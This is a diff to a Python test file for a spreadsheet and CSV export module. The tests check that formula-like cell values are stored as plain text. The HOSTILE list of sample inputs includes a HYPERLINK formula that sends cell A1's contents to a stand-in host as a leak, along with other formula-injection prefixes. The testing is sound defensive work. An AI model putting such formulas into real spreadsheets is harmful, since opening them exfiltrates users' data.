@@ -8,7 +8,8 @@ import io
 from niangjia_projections.entrypoints.people import DIRECTORY_COLUMNS, _workbook
 from niangjia_projections.exports import FORMULA_STARTS, csv_cell
 from niangjia_projections.models.audit import queries as audit
-from openpyxl import load_workbook
+from niangjia_projections.workbook import put
+from openpyxl import Workbook, load_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
@@ -41,3 +42,12 @@ def test_the_directory_workbook_holds_text_never_a_formula() -> None:
     assert len(values) == len(HOSTILE) * len(DIRECTORY_COLUMNS)
     assert all(cell.data_type == "s" for cell in values)
     assert {cell.value for cell in values} == {h.replace("\r", "\n") for h in HOSTILE}  # as written (XML keeps no CR)
+
+
+def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text() -> None:
+    sheet = Workbook().active
+    assert sheet is not None
+    for row, start in enumerate(FORMULA_STARTS, 1):  # the same list as the CSV cells'
+        cell = put(sheet, row, 1, f'{start}HYPERLINK("http://x")')
+        assert (cell.data_type, cell.quotePrefix) == ("s", True), repr(start)
+    assert put(sheet, 9, 1, "武进区").quotePrefix is False
